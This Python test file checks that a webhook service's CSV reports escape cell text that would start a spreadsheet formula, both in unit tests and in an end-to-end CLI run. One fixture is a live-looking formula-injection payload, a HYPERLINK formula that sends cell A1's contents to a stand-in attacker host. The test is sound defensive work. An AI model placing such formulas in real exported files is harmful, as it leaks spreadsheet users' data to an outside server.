"""CSV reports open in a spreadsheet as data: text that starts a formula is escaped, numbers stay numbers.

The end-to-end test stores an error message and a language that begin with
``=HYPERLINK(...)`` (text the receiver takes from outside) and reads the CSV
that `webhook-service report ... --format csv` prints, on SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys

import pytest

import report_fixtures
from webhook_service.db import session_scope
from webhook_service.models import Job
from webhook_service.reports import csv_cell

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'


@pytest.mark.dbless
@pytest.mark.parametrize("text", [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1"])
def test_text_that_starts_a_formula_gets_a_quote(text):
    assert csv_cell(text, "text") == "'" + text


@pytest.mark.dbless
@pytest.mark.parametrize(("value", "kind"), [(-1.5, "float"), (-3, "int"), ("2026-03-01", "day"),
                                             ("plain words", "text"), ("a=b", "text"), ("", "text")])
def test_other_cells_are_unchanged(value, kind):
    assert csv_cell(value, kind) == value


@pytest.mark.dbless
def test_none_is_an_empty_cell():
    assert csv_cell(None, "text") == ""


def _report_csv(url: str, name: str) -> list[dict[str, str]]:
    env = {**os.environ, "DATABASE_URL": url, "LOG_LEVEL": "WARNING"}
    done = subprocess.run([sys.executable, "-m", "webhook_service.cli", "report", name, "--format", "csv"],
                          capture_output=True, text=True, env=env, timeout=60)
    assert done.returncode == 0, done.stderr
    return list(csv.DictReader(io.StringIO(done.stdout)))


def test_cli_csv_escapes_stored_text(db_url):
    report_fixtures.load(db_url)
    with session_scope(db_url) as session:
        session.add(Job(id="job-x", source_path="/audio/x.wav", state="failed", last_error=HYPERLINK,
                        created_at=report_fixtures.at(2, 13), queued_at=report_fixtures.at(2, 13),
                        failed_at=report_fixtures.at(2, 13, 1), gladia_id="g-x"))
        session.flush()
        session.add(report_fixtures.utterance("job-x", "g-x", "00_1", 0.0, 1.0, language="=1+1", words=1,
                                              text=HYPERLINK))

    errors = _report_csv(db_url, "error_breakdown")
    escaped = [row for row in errors if row["error"].endswith(HYPERLINK)]
    assert [row["error"] for row in escaped] == ["'" + HYPERLINK]
    assert not any(row["error"].startswith(("=", "+", "-", "@")) for row in errors)
    assert escaped[0]["occurrences"] == "1"  # a number column is written as a number

    languages = {row["language"]: row for row in _report_csv(db_url, "language_mix")}
    assert "'=1+1" in languages and "=1+1" not in languages
    assert float(languages["'=1+1"]["speech_s"]) == 1.0
